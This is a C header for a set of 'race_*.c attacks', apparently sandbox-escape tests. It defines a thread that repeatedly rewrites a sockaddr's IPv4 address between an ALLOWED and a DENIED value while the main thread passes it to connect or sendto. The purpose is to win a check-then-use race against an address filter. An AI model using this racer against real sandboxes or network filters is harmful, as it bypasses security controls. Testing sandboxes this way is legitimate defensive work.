/*
 * What the race_*.c attacks share (beside common.h): a racing thread that
 * counts its rounds, so that the attack can give it the CPU, and the
 * racer that rewrites a sockaddr's address.
 */
#ifndef ESCAPE_RACE_H
#define ESCAPE_RACE_H
#include "common.h"

/* A racing thread counts its rounds; racer_ran() waits (a little) until it
 * has gone round since the last call, so that a loaded machine cannot leave
 * it without CPU for a whole attack. */
static __attribute__((unused)) atomic_int racer_rounds;

static __attribute__((unused)) void
racer_ran(void)
{
	static int seen;

	for (int i = 0; i < 1000 && atomic_load(&racer_rounds) == seen; i++)
		sched_yield();
	seen = atomic_load(&racer_rounds);
}

/*
 * The address racer (race_connect, race_sendto): a thread that rewrites
 * the IPv4 address of *sa, which the main thread passes to the kernel,
 * between ALLOWED and DENIED, 64 times a round and ALLOWED between rounds,
 * until addr_racer_stop().
 */
static __attribute__((unused)) atomic_int addr_racer_ends;

static __attribute__((unused)) void *
addr_racer(void *arg)
{
	struct sockaddr_in *sa = arg;
	volatile uint32_t *a = (volatile uint32_t *)&sa->sin_addr.s_addr;
	uint32_t good = inet_addr(ALLOWED), bad = inet_addr(DENIED);

	while (!atomic_load_explicit(&addr_racer_ends, memory_order_relaxed)) {
		atomic_fetch_add_explicit(&racer_rounds, 1, memory_order_relaxed);
		for (int i = 0; i < 64; i++) {
			*a = good;
			*a = bad;
		}
		*a = good;
	}
	return NULL;
}

static __attribute__((unused)) pthread_t
addr_racer_start(struct sockaddr_in *sa)
{
	pthread_t t;

	pthread_create(&t, NULL, addr_racer, sa);
	return t;
}

static __attribute__((unused)) void
addr_racer_stop(pthread_t t)
{
	atomic_store(&addr_racer_ends, 1);
	pthread_join(t, NULL);
}

#endif
